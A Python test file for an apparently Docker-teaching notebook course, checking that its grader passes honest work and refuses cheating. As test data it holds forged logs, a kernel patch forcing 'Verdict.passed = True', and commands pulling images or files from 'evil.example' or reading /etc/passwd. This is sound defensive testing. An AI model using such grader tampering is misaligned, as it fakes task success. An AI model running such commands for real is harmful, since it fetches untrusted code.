"""Grading believes nothing but commands: honest work passes, in whatever way it was done; edited outputs, logs and cells gain nothing."""

from __future__ import annotations

import io
import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from imagelab.app import Lab
from imagelab.cli.main import run
from imagelab.course import catalog, notebooks
from imagelab.course.cells import commands_in
from imagelab.course.exercise import as_cell, perform, shown
from imagelab.course.grade import grade
from imagelab.course.grading import grade_notebook
from imagelab.course.nbgrader import assignment
from imagelab.course.progress import FILE, Progress, Record
from imagelab.course.record import written
from imagelab.course.trial import clean_lab
from imagelab.errors import ImageLabError
from imagelab.state.steps import Entry, read_log, write_log

pytestmark = pytest.mark.usefixtures("ports_of_the_book")

MOVED = catalog.exercise("moved-tag")


def log_of(name: str, lines: Sequence[str]) -> tuple[str, ...]:
    with clean_lab(catalog.exercise(name)) as lab:
        perform(lab, lines)
        return written(lab)


def hand_in(folder: Path, cells: Sequence[str], *, log: Sequence[str] = (), outputs: Sequence[Any] = ()) -> Path:
    """A notebook, and its progress beside it."""
    made = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
    for cell in made.cells:
        cell.outputs = list(outputs)
    (folder / "x.ipynb").write_text(notebooks.normalise(made), encoding="utf-8")
    if log:
        (folder / FILE).write_text(Progress({"moved-tag": Record(1, 0, True, tuple(log))}).to_json(), encoding="utf-8")
    return folder / "x.ipynb"


OPEN = "lab.exercise('moved-tag')"


SOLVED = log_of("moved-tag", ["pull -q mongo:3.2"])


# -- honest work --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("exercise", list(catalog.exercises()), ids=lambda exercise: exercise.id)
def test_a_log_of_the_solution_passes(exercise: Any) -> None:
    found = grade(exercise, log_of(exercise.id, exercise.solution))
    assert found.solved, (found.problem, found.missing)


def test_a_log_that_a_notebook_wrote_passes(lab: Lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Containers of a notebook have a process each; grading runs them in its own: the same states come of it."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("IMAGELAB_HOME", "")
    for name in ("own-page", "own-layer", "second-note"):
        practice = lab.exercise(name)
        perform(practice.lab, practice.exercise.solution)
        practice.check()
        assert practice.won
        practice.lab.docker("rm -f $(docker ps -aq)")
        found = grade(
            practice.exercise, Progress.parse((tmp_path / FILE).read_text(encoding="utf-8")).records[name].log
        )
        assert found.solved, found.problem


def test_undone_steps_are_not_done_again() -> None:
    with clean_lab(MOVED) as lab:
        perform(lab, ["rmi mongo:3.2"])
        lab.undo()
        perform(lab, ["pull mongo:3.2"])
        assert grade(MOVED, written(lab)).solved


@pytest.mark.parametrize(
    "cells",
    [
        ["%docker pull mongo:3.2"],
        ["%%docker\n# the new one\ndocker pull -q \\\n  mongo:3.2\n"],
        ["!docker pull mongo:3.2"],
        ["x = 1\nlab.docker('pull mongo:3.2')"],
        ["%docker images -a", "%%docker run -i --name box --pull always mongo:3.2 sh\nexit 0"],
    ],
)
def test_without_a_log_the_cells_commands_count(tmp_path: Path, cells: list[str]) -> None:
    found, *_ = grade_notebook(hand_in(tmp_path, [OPEN, *cells]))
    assert (found.solved, found.source) == (True, "cells")


@pytest.mark.parametrize("name", ["written-down", "slim", "flat-and-alive", "own-page", "leave-the-key"])
def test_the_solution_in_a_cell_passes_without_a_log(name: str, tmp_path: Path) -> None:
    """Paths of a container, in a Dockerfile or on a command line, are nothing of the machine."""
    cell = as_cell(catalog.exercise(name).solution)
    grades = grade_notebook(hand_in(tmp_path, [f"lab.exercise('{name}')", cell]))
    (found,) = [grade for grade in grades if grade.exercise_id == name]
    assert found.solved, (found.problem, found.missing)


@pytest.mark.parametrize(
    "line",
    [
        "FROM evil.example/x",
        "FROM scratch\nADD https://evil.example/x /x",
        "FROM busybox\nCOPY --from=evil.example/x / /",
    ],
)
def test_a_dockerfile_that_reaches_outside_is_not_built(line: str) -> None:
    inside = "build -t app:1 -\nFROM busybox AS one\nFROM busybox\nRUN touch /etc/x\nCOPY --from=one /etc /etc\n"
    with clean_lab(MOVED) as lab:
        assert perform(lab, [f"build -t app:1 -\n{line}\n", inside]) == [1, 0]


def test_a_container_that_only_takes_a_moment_is_waited_for() -> None:
    exercise = catalog.exercise("exit-code")
    lines = ("run -d --name answer ubuntu:14.04 sh -c 'sleep 1; exit 42'",)
    assert grade(exercise, lines=lines).solved
    assert grade(exercise, log_of("exit-code", lines)).solved


def test_each_exercise_has_the_cells_below_it() -> None:
    cells = ["%docker pull a", OPEN, "%docker pull b", "# x", "lab.exercise('sweep')", "%%docker\nrmi c\nrmi d"]
    assert commands_in(cells) == {"moved-tag": ("docker pull b",), "sweep": ("rmi c", "rmi d")}


# -- cheating -----------------------------------------------------------------------------------------------


def test_edited_outputs_gain_nothing(tmp_path: Path) -> None:
    praise = nbformat.v4.new_output("stream", name="stdout", text="The tag that moved\n  [x] …\nSolved. …")
    found, *_ = grade_notebook(hand_in(tmp_path, [OPEN, "# %docker ..."], outputs=[praise]))
    assert (found.solved, found.held, found.source) == (False, (False, False), "nothing")


def test_saying_that_it_is_solved_gains_nothing(tmp_path: Path) -> None:
    file = hand_in(tmp_path, [OPEN])
    (tmp_path / FILE).write_text(Progress({"moved-tag": Record(9, 0, True, ())}).to_json(), encoding="utf-8")
    assert not grade_notebook(file)[0].solved


def edited(log: Sequence[str], **changes: Any) -> list[str]:
    *rest, last = log
    return [*rest, json.dumps(json.loads(last) | changes, ensure_ascii=False)]


def test_an_edited_log_gains_nothing(tmp_path: Path) -> None:
    """A line changed, left out, put in, or all of it forged: the commands are done again, and lead where they lead."""
    honest = log_of("moved-tag", ["tag mongo:3.2 other"])
    solved = log_of("moved-tag", ["pull mongo:3.2"])
    wanted = json.loads(solved[-1])["state"]
    forged = read_log(honest)
    forged[-1] = Entry(forged[-1].command, {}, 0, read_log(solved)[-1].state)
    tried = {
        "leaves another lab than the log says": [edited(honest, state=wanted), list(write_log(forged))],
        "line 4 of the log is damaged: it does not follow": [
            [*honest[:2], edited(honest[:3], exit_code=7)[-1], honest[3]]
        ],
        "is damaged": [[solved[0], *solved[2:]], [*solved, solved[-1]], ["nonsense"], ['{"imagelab": 1}', "[]"]],
        "does not begin where the exercise starts": [['{"imagelab": 1}'], list(write_log(read_log(solved)[1:]))],
    }
    for why, logs in tried.items():
        for log in logs:
            found, *_ = grade_notebook(hand_in(tmp_path, [OPEN, "%docker pull mongo:3.2"], log=log))
            assert not found.solved and why in found.sentence("en"), (why, found)


@settings(max_examples=30)
@given(data=st.data())
def test_whatever_is_changed_in_a_log_it_passes_only_by_its_commands(data: st.DataObject) -> None:
    """One character anywhere: the log is refused, or it is still the same commands."""
    line = data.draw(st.integers(0, len(SOLVED) - 1))
    at = data.draw(st.integers(0, len(SOLVED[line]) - 1))
    new = data.draw(st.characters(min_codepoint=32, max_codepoint=126))
    log = [*SOLVED]
    log[line] = f"{log[line][:at]}{new}{log[line][at + 1 :]}"
    if grade(MOVED, log).solved:
        assert [entry.command for entry in read_log(log)] == [entry.command for entry in read_log(SOLVED)]


def test_a_forged_log_with_a_true_chain_is_judged_by_its_commands() -> None:
    """Whoever makes the whole chain anew has only written down commands."""
    claimed = [*read_log(log_of("moved-tag", [])), Entry(("tag", "mongo:3.2", "other"), {}, 0, None)]
    found = grade(MOVED, list(write_log(claimed)))
    assert not found.solved and found.verdict is not None and found.verdict.missing is not None


@pytest.mark.parametrize(
    "command",
    [
        "upstream set http://evil.example",
        "--lab /tmp/x pull nginx",
        "serve",
        "lab",
        "build .",
        "load -i /etc/passwd",
        "undo",
    ],
)
def test_a_command_that_is_no_step_of_an_exercise_is_not_done_again(command: str) -> None:
    claimed = [*read_log(log_of("moved-tag", [])), Entry(tuple(command.split()), {}, 0, None)]
    found = grade(MOVED, list(write_log(claimed)))
    assert "is not done again" in found.problem
    assert not grade(MOVED, lines=(command,)).solved


@pytest.mark.parametrize(
    "command",
    ["save -o {}/x mongo:3.2", "cp box:/x {}/x", "pull evil.example/x", "run evil.example/x", "export -o {}/x box"],
)
def test_a_command_that_reaches_outside_reaches_nothing(command: str, tmp_path: Path) -> None:
    """What a line may touch is not read from its words: there is nothing outside for it (`tests/cli/test_host_access.py`)."""
    line = command.format(tmp_path)
    claimed = [*read_log(log_of("moved-tag", [])), Entry(tuple(line.split()), {}, 0, None)]
    assert not grade(MOVED, list(write_log(claimed))).solved
    assert not grade(MOVED, lines=(line,)).solved
    assert not list(tmp_path.iterdir())


def test_edited_check_cells_gain_nothing(tmp_path: Path) -> None:
    made = assignment(notebooks.ROOT / "lessons" / "02-listing-images", "en")
    for cell in made.cells:
        if "assert" in cell.source:
            cell.source = "assert True"
    (tmp_path / "x.ipynb").write_text(notebooks.normalise(made), encoding="utf-8")
    assert [one.solved for one in grade_notebook(tmp_path / "x.ipynb")] == [False] * 3


# -- nbgrader -----------------------------------------------------------------------------------------------


def solve(made: Any, solved: Sequence[str]) -> None:
    for cell, following in zip(made.cells, made.cells[1:], strict=False):
        if cell.source.startswith("lab.exercise(") and (name := cell.source.split('"')[1]) in solved:
            following.source = "%%docker\n" + "\n".join(map(shown, catalog.exercise(name).solution))


def test_an_assignment_solved_runs_through_and_unsolved_says_what_is_missing(tmp_path: Path) -> None:
    lesson = notebooks.ROOT / "lessons" / "02-listing-images"
    made = assignment(lesson, "en")
    solve(made, ["moved-tag", "two-names", "sweep"])
    notebooks.execute(made, tmp_path)
    made = assignment(lesson, "en")
    solve(made, ["moved-tag"])
    other = tmp_path / "other"  # where no progress says that it was solved before
    other.mkdir()
    with pytest.raises(ImageLabError, match="AssertionError.*no image is called `base:1` yet"):
        notebooks.execute(made, other)


CHECKED = """import subprocess, sys
[subprocess.run([sys.executable, "-P", "-m", "imagelab.course.nbgrader", "sweep", str(number)]).returncode == 0 for number in (1, 2, 3)]"""


def test_handing_in_nothing_is_worth_nothing(tmp_path: Path) -> None:
    cells = ["import imagelab\nlab = imagelab.lesson('x')", "lab.exercise('sweep')", CHECKED, "%docker image prune -f", CHECKED]  # fmt: skip
    made = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell(cell) for cell in cells], metadata={"kernelspec": notebooks.KERNEL}
    )
    made.metadata["imagelab"] = {"lesson": "x"}
    notebooks.execute(made, tmp_path)
    found = [made.cells[at].outputs[-1]["data"]["text/plain"] for at in (2, 4)]
    assert found == ["[False, False, False]", "[True, True, True]"]


def test_a_learner_who_changes_the_kernel_gains_nothing(tmp_path: Path) -> None:
    made = assignment(notebooks.ROOT / "lessons" / "02-listing-images", "en")
    patch = "import imagelab.course.exercise, imagelab.course.nbgrader\nimagelab.course.nbgrader.missing = lambda *_: ''\nimagelab.course.exercise.Verdict.passed = True"
    opened = next(at for at, cell in enumerate(made.cells) if cell.source.startswith("lab.exercise("))
    made.cells[opened + 1].source = patch
    with pytest.raises(ImageLabError, match="AssertionError"):
        notebooks.execute(made, tmp_path)


def test_an_assignments_cells_have_what_nbgrader_reads() -> None:
    made = assignment(notebooks.ROOT / "lessons" / "02-listing-images", "zh")
    ours = [cell.metadata["nbgrader"] for cell in made.cells if "nbgrader" in cell.metadata]
    assert len({one["grade_id"] for one in ours}) == len(ours)
    for one in ours:
        assert set(one) >= {"grade", "grade_id", "locked", "schema_version", "solution", "task"}
        assert one["grade"] is not one["solution"] and one["locked"] is one["grade"]
    points = sum(one.get("points", 0) for one in ours)
    assert points == sum(len(one.checks) for one in catalog.by_lesson(catalog.lessons_folder())["02-listing-images"])
    nbformat.validate(made)


# -- the commands -------------------------------------------------------------------------------------------


def imagelab(*words: str) -> tuple[int, str]:
    out = io.StringIO()
    code = run(words, stdin=io.StringIO(), stdout=out, stderr=out, environ={})
    return code, out.getvalue()


def test_check_says_it_as_text_and_as_json(tmp_path: Path) -> None:
    cells = [OPEN, "%docker images", "lab.exercise('sweep')", "%docker image prune -f"]
    file = str(hand_in(tmp_path, cells))
    code, text = imagelab("check", file)
    assert code == 1
    assert text.splitlines()[0].startswith("[ ] moved-tag  0 of 2  `mongo:3.2` still stands for")
    assert text.splitlines()[1].startswith("[ ] two-names  ")
    assert text.splitlines()[2].startswith("[x] sweep  3 of 3")
    assert text.splitlines()[3] == "1 of 3 exercises solved"
    assert text.splitlines()[4].startswith("each exercise had 20 seconds, in: ")
    code, text = imagelab("check", "--format", "json", file)
    found = json.loads(text)
    assert (code, found["solved"], found["all"], found["lesson"]) == (1, 1, 3, "02-listing-images")
    assert found["exercises"][0]["missing"]["zh"] == "`mongo:3.2` 指的还是原来那个镜像"
    rest = ["lab.exercise('moved-tag')", "%docker pull mongo:3.2", "lab.exercise('two-names')",
            "%%docker\n" + "\n".join(map(shown, catalog.exercise("two-names").solution))]  # fmt: skip
    assert imagelab("check", str(hand_in(tmp_path, [*cells, *rest])))[0] == 0


def test_what_cannot_be_checked_is_a_sentence(tmp_path: Path) -> None:
    (tmp_path / "bad.ipynb").write_text("{}", encoding="utf-8")
    assert "it has no list of cells" in imagelab("check", str(tmp_path / "bad.ipynb"))[1]
    assert "cannot be read" in imagelab("check", str(tmp_path / "none.ipynb"))[1]
    assert "belongs to no lesson" in imagelab("check", str(hand_in(tmp_path, ["lab.exercise('nosuch')"])))[1]
    nosuch = imagelab("check", str(hand_in(tmp_path, [OPEN, "lab.exercise('nosuch')"])))[1]
    assert "no exercise of the course is called `nosuch`" in nosuch and "0 of 3" in nosuch


def test_progress_can_be_taken_along(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert imagelab("progress")[1].startswith("Nothing solved yet.")
    other = tmp_path / "other.json"
    other.write_text(Progress({"sweep": Record(1, 0, True)}).to_json(), encoding="utf-8")
    code, text = imagelab("progress", "--import", str(other))
    assert code == 0 and "1 of" in text and "[x] sweep" in text
    assert imagelab("progress", "--export", "mine.json") == (0, "wrote mine.json\n")
    assert (tmp_path / "mine.json").read_text(encoding="utf-8") == imagelab("progress", "--json")[1]
    assert "cannot be read" in imagelab("progress", "--import", "nosuch.json")[1]
    assert "not a progress file" in imagelab("progress", "--import", str(hand_in(tmp_path, [])))[1]


def test_an_assignment_is_written(tmp_path: Path) -> None:
    target = tmp_path / "a.ipynb"
    assert imagelab("assignment", "05-commit", "-o", str(target))[0] == 0
    assert "nbgrader" in target.read_text(encoding="utf-8")
    assert "no lesson is called '5'" in imagelab("assignment", "5")[1]
